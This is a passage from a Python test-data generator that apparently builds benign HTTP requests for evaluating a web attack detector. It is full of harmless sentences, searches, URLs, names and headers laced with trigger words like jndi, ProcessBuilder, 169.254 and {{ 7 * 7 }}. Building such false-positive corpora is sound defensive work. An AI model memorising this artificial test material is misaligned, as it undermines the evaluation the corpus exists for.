    "Class.forName is needed for the old JDBC drivers, newer ones self-register",
    "JNDI lookups are disabled in log4j 2.17, we are on 2.23",
    "log4j2.formatMsgNoLookups is irrelevant after 2.16, you can drop the flag",
    "Spring Boot 3.2 uses jakarta.* packages, the javax imports must go",
    "Tomcat's access log pattern is in server.xml, pattern attribute",
    "the JSP pages of the old admin are being rewritten in Thymeleaf",
    "XStream is still used by the Jenkins plugin, allowlist configured",
    "commons-collections 3.2.2 fixed the InvokerTransformer issue, we are on 4.4",
    "the JSF view state is encrypted on the server, client state is off",
    "jar files go to the artifacts bucket, not to the wiki",
    "ClassLoader leaks on redeploy are why we restart Tomcat weekly",
    "the Groovy script console in Jenkins is admin only",
    "Nashorn was removed in JDK 15, GraalJS if you need JS on the JVM",
    "the JSON has an @type field for the event kind, nothing to do with fastjson",
    "System.getProperty(\"user.timezone\") is UTC on all servers",
    "getClass().getSimpleName() in the log line helps a lot",
    "a JDBC row set is overkill for this, just use a list of records",
    # templates
    "the greeting email template uses {{ first_name }} and {{ company }}",
    "Jinja2 autoescape is on for .html templates, off for .txt",
    "Twig's |date filter wants a format string like 'Y-m-d'",
    "in the Handlebars partial, {{#each items}} renders the line items",
    "Freemarker <#list> needs the ?has_content check for empty lists",
    "Velocity macros live in VM_global_library.vm on the old portal",
    "Thymeleaf th:each over the orders, th:text for the totals",
    "ERB trim mode '-' removes the blank lines, <%- ... -%>",
    "Smarty is still used by the legacy shop, {$product.name} style tags",
    "Pug indentation broke again, mixing tabs and spaces",
    "mako templates in the Pyramid app, ${name} is escaped by default filter",
    "nunjucks in the static site generator, {% include 'footer.njk' %}",
    "EJS in the email preview server, <%= user.name %>",
    "Tornado templates {% extends \"base.html\" %} work like Django's",
    "{{ 7 * 7 }} in the docs example renders as 49 only in the playground",
    "the template variable ${amount} is replaced at send time",
    "#set in Velocity assigns, #if branches, that's all you need for the invoice",
    "the Liquid filter | money formats the price in the shop theme",
    # general chit-chat with the words
    "system maintenance on Saturday 02:00-04:00 UTC",
    "exec summary for the board is due Friday, I'll draft it",
    "the process for expense reports changed, see the HR wiki",
    "class of 2024 alumni meetup next week, RSVP in the form",
    "the prototype of the new badge reader arrives Monday",
    "our constructor partner sent the quote for the office fit-out",
    "I'll spawn a thread in #design for the logo feedback",
    "the runtime of the nightly job dropped from 40 to 12 minutes",
    "serialization of the export to CSV is done, Excel opens it fine",
    "metadata for the photos includes GPS, strip it before publishing",
    "loop me in on the vendor call, please",
    "the data scheme for the warehouse tables is in the ERD",
    "can you file the request for a new laptop? mine keeps freezing",
    "the template for the quarterly review is in the shared drive",
    "Ruby from accounting is out today, ask Pearl instead",
    "Perl Jam 2 tickets are sold out, sorry",
    "the Java coffee in the kitchen is great, thanks to whoever ordered it",
    "Jinja is also a nice name for a cat, just saying",
    "the Twig and Berry cafe does a good lunch",
    "Mako shark documentary tonight at 9",
    "Pug pictures in #random are the best part of Monday",
    "Tornado warning was lifted, office is open",
    "the handlebars on my bike are bent, walking today",
    "Velocity of the team is up 20% this sprint",
    "Thyme leaf tea for the offsite, someone asked",
    "the Smarty Pants bakery delivers cake for the birthday",
    "Freemarker pens are out, order more",
    "Log4j talk at the meetup was a great retrospective",
    "cloud metadata, IAM roles and instance profiles are covered in the AWS course",
    "I added 127.0.0.1 localhost to my hosts file and it works",
    "the URL is http://intranet.example.com:8080/wiki, not the IP",
    "ping 8.8.8.8 works, DNS doesn't, classic",
    "the Java class for invoices is InvoiceService, the Node one is invoice.service.ts",
    "rO0 is how Java serialized data starts in base64, fun fact from the security training",
    "AC ED 00 05 are the magic bytes of Java serialization, the CTF had a challenge on it",
    "the JSP file upload was removed from the admin, only images allowed",
    "the .jsp extension is blocked at the proxy, we serve static HTML",
    "report.jsp.bak files were found on the old server and deleted",
    "the class-loading order in the OSGi container finally makes sense",
    "the pattern, suffix and prefix of the access log are configurable",
    "Spring's data binder only binds allowed fields since 5.3.18",
    "Perl's open with '-|' forks, I learned the hard way",
    "the Ruby interpolation #{name} only works in double quotes",
    "I wrote a Handlebars helper for currency, {{money total}}",
    "constructor injection over field injection in Spring, please",
    "global state in Node modules is shared across requests, careful",
    "the new monitor has a busy loop detector, nice",
    "serialize the form data as JSON, not as a query string",
    "base64 encode the attachment before the API call",
    "the CSV cell with =SUM was flagged by the export sanitiser",
    "the YAML file lists the ruby version 3.3.0",
    "Node.js DoS fix landed in 20.11.1, upgrade the base image",
    "SSRF protection for the link preview service is live",
    "prototype pollution fix is in the release notes of the query parser",
    "template injection was the topic of the lunch and learn, slides are up",
    "our WAF blocks jndi strings in headers, good to know for the pentest",
]
SEARCHES = [
    "child process", "require", "constructor", "process manager", "node 20 upgrade", "while loop", "loop pedal",
    "prototype", "proto", "metadata", "169.254", "localhost", "127.0.0.1", "10.0.0.7", "ipv6 ::1", "gopher",
    "dict", "ruby", "perl", "system", "exec", "popen", "kernel", "open3", "qw", "eval", "readpipe", "data:",
    "data scheme", "php include", "java", "runtime", "processbuilder", "java.lang", "ObjectInputStream",
    "serialization", "deserialize", "commons collections", "InvokerTransformer", "XMLDecoder", "FileWriter",
    "getProperty", "rO0AB", "aced0005", "magic bytes", "jndi", "log4j", "ldap", "rmi", "class loader",
    "classLoader", "spring", "pipeline", "tomcat", "jsp", "jspx", "upload jsp", "jinja", "twig", "freemarker",
    "velocity", "thymeleaf", "erb", "smarty", "handlebars", "pug", "mako", "nunjucks", "ejs", "tornado",
    "{{ name }}", "${name}", "#{name}", "<%= name %>", "{$name}", "template", "config", "lipsum", "cycler",
    "namespace", "joiner", "self", "request", "application", "globals", "builtins", "subclasses", "mro",
    "Anna Müller", "José García", "O'Brien", "Zoë Saldaña", "李伟", "Łukasz", "Smith & Sons", "ACME Corp.",
    "Java Street 12", "Ruby Lane", "Perl Avenue", "Velocity Partners", "Tornado Roofing", "Pug Rescue League",
    "Twig Books", "Mako Surf Shop", "Handlebar Cycles",
]
PROSE = [
    "Customer asked why the report process takes so long; the runtime grew with the data volume.",
    "Please update the system prompt of the support bot, it still mentions the old hours.",
    "The constructor company asked for the prototype drawings by Friday.",
    "Escalation: user cannot upload report.pdf, the file picker hangs on Safari.",
    "Refund approved for order 4411; the template email went out at 10:30.",
    "Note from Ruby: the Perl training budget moved to Q3.",
    "The Java meetup at our office needs 30 chairs and the projector.",
    "Velocity of support tickets dropped after the FAQ update.",
    "Her bio says: loves tornado chasing, pug dogs and Twig poetry.",
    "Reviewed the data scheme for customer records with legal; no changes needed.",
    "Please exec the contract today; legal signed off on clause 4.",
    "System of record for invoices is the ERP, not the CRM.",
    "The metadata on the uploaded photos was stripped as requested.",
    "User reports the loop in the onboarding flow: step 3 goes back to step 1.",
    "Global settings for the team were updated by the admin.",
    "The class roster for the Java course is attached.",
    "Kernel panic on the kiosk laptop, IT is on it.",
    "The serial number of the returned device is SN-4471-AC.",
    "The base64 attachment was too large for the ticketing system.",
    "While true that the price went up, the plan still includes support.",
    "For the record: the customer's company is Spring Valley Farms.",
    "Handlebars of the delivery bike need replacing, quote attached.",
    "The open issue with the reader is tracked in ticket 7731.",
    "A pipeline of twelve leads came from the trade show.",
    "Loader for the warehouse arrives at 8am; suffix the PO with -WH.",
    "Jinja, the office cat, knocked over the plant again.",
    "The freemarker pens and the template folders are in the supply closet.",
    "Mako from the sales team closed the Tornado Roofing account.",
    "Thymeleaf tea and ruby grapefruit juice for the offsite.",
    "The Smarty Pants bakery invoice is for 24 cupcakes.",
    "Customer wrote: 'I typed {{name}} in the subject and it showed literally, is that expected?'",
    "Customer wrote: 'my signature shows ${name} instead of my name'",
    "Customer wrote: 'the invoice says Dear #{first_name}'",
    "Customer wrote: 'the page shows <%= total %> instead of the amount'",
    "Ticket: the docs say use process.env.API_KEY, but the SDK reads API_TOKEN.",
    "Ticket: our Node integration calls require('acme-sdk') and fails on version 3.",
    "Ticket: Java client gets ClassNotFoundException for com.acme.sdk.Client.",
    "Ticket: Ruby gem acme-api raises on Ruby 3.3, works on 3.2.",
    "Ticket: Perl module ACME::API needs LWP 6.72 or newer.",
    "Ticket: webhook to http://localhost:3000 fails, customer testing locally.",
    "Ticket: they whitelisted 10.0.0.0/8 in their firewall, calls still time out.",
    "Ticket: the avatar URL points to an internal host, we can't fetch it.",
    "Ticket: customer pasted a data: URL as their logo, it's 2 MB.",
    "Ticket: JSP upload refused; told them we only accept PNG and JPEG.",
    "Ticket: the Log4j question from their security team, answered with our statement.",
    "Ticket: they asked whether we deserialize Java objects; we don't.",
    "Ticket: prototype pollution report from a researcher, forwarded to security.",
    "Ticket: template injection report, triaged as not reproducible.",
    "Ticket: our email footer shows {{unsubscribe}}, the variable name is wrong.",
    "Ticket: customer's company name is 'Runtime Solutions GmbH'.",
    "Ticket: customer's company name is 'ProcessBuilder Ltd'.",
    "Ticket: customer's address is 12 Class Road, Loader Park.",
    "The customer loves the new dashboard; while loading it shows a spinner.",
    "A do-while style retry is used in the sync: try once, then up to three more times.",
    "Nothing to add; closing the ticket as resolved.",
    "The script of the training video is ready for review.",
    "The perl necklace order shipped today.",
    "Ruby on Rails workshop moved to room 4.",
    "We spawned three new projects from the hackathon.",
    "Send the Java Street office keys to facilities.",
    "Order 9921: 2x 'Data Scheme Design' book, 1x 'Java Concurrency in Practice'.",
    "Order 9922: 'Handlebars.js in Action' and 'Learning Perl'.",
    "Order 9923: 'The Ruby Programming Language', paperback.",
    "Meeting notes: agreed on the metadata format; owner is Priya.",
    "Meeting notes: the system exec team reviewed the roadmap.",
    "Meeting notes: the loop closes when the customer confirms.",
    "Meeting notes: the template for release notes uses {version} and {date}.",
    "Meeting notes: IP allowlist requests go through the security form.",
    "Meeting notes: the 127 open tickets are down to 40.",
    "Meeting notes: the 169 survey answers are in the sheet.",
    "Call summary: customer needs SSO, asked about SAML metadata URL.",
    "Call summary: customer runs Tomcat 10 and Java 17.",
    "Call summary: customer's Node service runs on port 8080 behind nginx.",
    "Call summary: the Perl importer is being replaced by a Go service.",
    "Call summary: the Ruby worker processes 3k jobs an hour.",
    "Call summary: they use Jinja2 for their own emails, nothing to do with us.",
    "Call summary: they asked for Freemarker examples for the export, sent docs.",
    "Call summary: Thymeleaf and Spring Boot on their side, REST calls to us.",
    "Call summary: the pug-based static site is their marketing page.",
    "Call summary: they saw 'class not found' errors during their deploy, not ours.",
    "Address change: 4 Tornado Alley, Norman, OK 73019.",
    "Address change: Prototype House, 1 Constructor Way, Leeds.",
    "Address change: 77 Process Street, Suite 200, Austin, TX.",
    "Address change: Rua da Java 10, Lisboa.",
    "Address change: 9 Metadata Row, Dublin 2.",
    "Please confirm the Ruby Street delivery for Monday.",
    "Customer says the CSV export puts quotes around every cell, is that fine?",
    "Customer asked what rO0 means in their own log file; explained it's their Java app's data.",
]
URLS = [
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html#vm-executing-javascript",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Object/proto",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Statements/while",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://ruby-doc.org/3.3.0/Kernel.html",
    "https://ruby-doc.org/3.3.0/stdlibs/open3/Open3.html",
    "https://perldoc.perl.org/functions/open",
    "https://perldoc.perl.org/perlsec",
    "https://www.php.net/manual/en/wrappers.data.php",
    "https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/lang/Runtime.html",
    "https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/io/ObjectInputStream.html",
    "https://docs.oracle.com/javase/8/docs/platform/serialization/spec/protocol.html",
    "https://commons.apache.org/proper/commons-collections/security-reports.html",
    "https://x-stream.github.io/security.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://spring.io/blog/2022/03/31/spring-framework-rce-early-announcement",
    "https://tomcat.apache.org/tomcat-10.1-doc/config/valve.html",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/filters/filter.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://docs.ruby-lang.org/en/3.3/ERB.html",
    "https://www.smarty.net/docs/en/language.function.if.tpl",
    "https://handlebarsjs.com/guide/builtin-helpers.html",
    "https://pugjs.org/language/interpolation.html",
    "https://docs.makotemplates.org/en/latest/syntax.html",
    "https://mozilla.github.io/nunjucks/templating.html",
    "https://ejs.co/#docs",
    "https://www.tornadoweb.org/en/stable/template.html",
    "https://example.com/blog/2024/05/while-true-considered-harmful",
    "https://cdn.example.org/assets/app.js?v=2.4.1",
    "https://www.example.co.uk/shop/java-beans-1kg?ref=newsletter",
    "https://maps.example.com/?q=Ruby+Lane+12",
    "https://files.example.com/uploads/report-q3.pdf",
]
PROFILES = [
    {"name": "Ruby Chen", "city": "Vancouver", "title": "Support lead"},
    {"name": "Pearl Okafor", "city": "Lagos", "title": "Accountant"},
    {"name": "Java Patel", "city": "Pune", "title": "Barista trainer"},
    {"name": "Jinja Nakamura", "city": "Osaka", "title": "Designer"},
    {"name": "Mako Tanaka", "city": "Kyoto", "title": "Engineer"},
    {"name": "Velocity Sports Ltd", "city": "Leeds", "title": "Customer"},
    {"name": "Tornado Roofing", "city": "Norman", "title": "Customer"},
    {"name": "Smarty Pants Bakery", "city": "Boston", "title": "Vendor"},
    {"name": "Twig & Berry", "city": "Bristol", "title": "Vendor"},
    {"name": "Handlebar Cycles", "city": "Portland", "title": "Vendor"},
    {"name": "Pug Rescue League", "city": "Austin", "title": "Non-profit"},
    {"name": "Runtime Solutions GmbH", "city": "Berlin", "title": "Partner"},
    {"name": "ProcessBuilder Ltd", "city": "Cork", "title": "Partner"},
    {"name": "Prototype Labs", "city": "Lyon", "title": "Partner"},
    {"name": "Constructor Group", "city": "Oslo", "title": "Partner"},
    {"name": "Metadata Inc.", "city": "Dublin", "title": "Customer"},
    {"name": "Spring Valley Farms", "city": "Fresno", "title": "Customer"},
    {"name": "Siobhán O'Neil", "city": "Galway", "title": "Ops"},
    {"name": "Zoë Saldaña-Pérez", "city": "Madrid", "title": "Legal"},
    {"name": "Łukasz Wiśniewski", "city": "Kraków", "title": "QA"},
    {"name": "李伟", "city": "上海", "title": "产品经理"},
    {"name": "Ana María de la Cruz", "city": "Bogotá", "title": "Sales"},
    {"name": "D'Angelo Smith Jr.", "city": "Atlanta", "title": "Engineer"},
    {"name": "Anne-Marie Dubois", "city": "Québec", "title": "Finance"},
    {"name": "Grace Hopper", "city": "Arlington", "title": "Advisor"},
    {"name": "Al Loop", "city": "Chicago", "title": "Driver"},
    {"name": "Process Team", "city": "Remote", "title": "Team account"},
    {"name": "Data Scheme Co.", "city": "Utrecht", "title": "Customer"},
    {"name": "Class Act Theatre", "city": "Cardiff", "title": "Customer"},
    {"name": "System & Exec Partners", "city": "Denver", "title": "Partner"},
    {"address": "12 Java Street, Jakarta 10110"},
    {"address": "4 Tornado Alley, Norman, OK 73019"},
    {"address": "Prototype House, 1 Constructor Way, Leeds LS1 4AP"},
    {"address": "77 Process Street, Suite 200, Austin, TX 78701"},
    {"address": "9 Metadata Row, Dublin 2, D02 X285"},
    {"address": "Ruby Lane 5, 8001 Zürich"},
    {"address": "Rua da Java 10, 1200-195 Lisboa"},
    {"address": "127 Main St, Apt 4, Springfield"},
    {"address": "169 Loop Road, Unit 254, Perth WA 6000"},
    {"address": "Pearl Tower, 10th floor, 1 Harbour Rd, Hong Kong"},
]
UPLOADS = [
    "report-q3.pdf", "Invoice_4411.pdf", "team photo.jpg", "avatar.png", "logo.svg", "contract (signed).docx",
    "budget_2024.xlsx", "Main.java", "InvoiceService.java", "build.gradle", "pom.xml", "app.js", "server.ts",
    "Gemfile", "deploy.rb", "import.pl", "email.html.erb", "welcome.twig", "base.html.j2", "invoice.ftl",
    "footer.vm", "index.pug", "greeting.hbs", "notes.txt", "data.csv", "jsp-migration-plan.pdf",
    "java-course-slides.pptx", "metadata.json", "template.docx", "screenshot 2024-05-01 at 10.30.12.png",
]
CLIENT_UAS = [
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "Java/1.8.0_392",
    "Java-http-client/17.0.9",
    "okhttp/4.12.0",
    "Jersey/2.41 (HttpUrlConnection 17.0.8)",
    "ReactorNetty/1.1.13",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "axios/1.6.7",
    "got (https://github.com/sindresorhus/got)",
    "undici",
    "Ruby",
    "Faraday v2.9.0",
    "rest-client/2.1.0 (linux x86_64) ruby/3.3.0p0",
    "libwww-perl/6.72",
    "LWP::Simple/6.72 libwww-perl/6.72",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "Wget/1.21.4",
    "Go-http-client/2.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile "
    "Safari/537.36",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Googlebot/2.1 (+http://www.google.com/bot.html)",
    "PostmanRuntime/7.37.3",
    "insomnia/2023.5.8",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
    "AcmeSDK-Java/3.2.0 (Java 17; Linux amd64)",
    "AcmeSDK-Node/2.8.1 (node v20.11.1; linux x64)",
]
REFERERS = [
    "https://www.google.com/",
    "https://app.example.com/admin/users?page=2",
    "https://github.com/acme/sdk-java/blob/main/src/main/java/com/acme/Runtime.java",
    "https://github.com/acme/sdk-node/blob/main/lib/process.js",
    "https://stackoverflow.com/questions/12345/how-to-use-processbuilder-in-java",
    "https://stackoverflow.com/questions/67890/what-is-proto-in-javascript",
    "https://docs.example.com/templates/handlebars#helpers",
    "https://docs.example.com/templates/jinja2?section=filters",
    "https://blog.example.com/2022/01/log4shell-what-we-did",
    "https://intranet.example.com/wiki/Java_Serialization_FAQ",
    "https://www.bing.com/search?q=ruby+popen+vs+system",
    "https://duckduckgo.com/?q=perl+open+pipe",
    "https://news.ycombinator.com/item?id=39000000",
    "https://t.co/AbCdEf123",
    "https://mail.example.com/",
    "https://example.com/shop/java-street-coffee?utm_source=newsletter",
    "https://maps.example.com/place/Tornado+Alley",
    "https://calendar.example.com/event?title=Twig+%26+Berry+lunch",
    "https://app.example.com/settings/templates/welcome.pug",
    "https://app.example.com/reports?metadata=true",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((prose_request(t) for t in PROSE), f"{NAME}-prose", n, "form")
    n = yield from numbered((_json("/api/users/42", {"note": t, "visibility": "team"}) for t in PROSE),
                            f"{NAME}-note", n, "json")
    for url in URLS:
        for rec in link_requests(url):
            n += 1
            yield {**rec, "id": f"{NAME}-url-{n:04d}", "category": "benign", "placement": "mixed"}
    n = yield from numbered((_json("/api/users", {"email": f"user{k}@example.org", **p})
                             for k, p in enumerate(PROFILES)), f"{NAME}-profile", n, "json")
    n = yield from numbered((_multipart("/api/users", [("csrf_token", CSRF), ("title", "attachment")],
                                        (f, "application/octet-stream", "plain file content\n")) for f in UPLOADS),
                            f"{NAME}-upload", n, "multipart-filename")
    n = yield from numbered((_with_headers(_get("/api/users?page=1"), {"User-Agent": ua}) for ua in CLIENT_UAS),
                            f"{NAME}-ua", n, "header:User-Agent")
    yield from numbered((_with_headers(_get("/api/users?page=1"), {"Referer": r}) for r in REFERERS),
                        f"{NAME}-referer", n, "header:Referer")


if __name__ == "__main__":
    print_records(attacks(), benign())
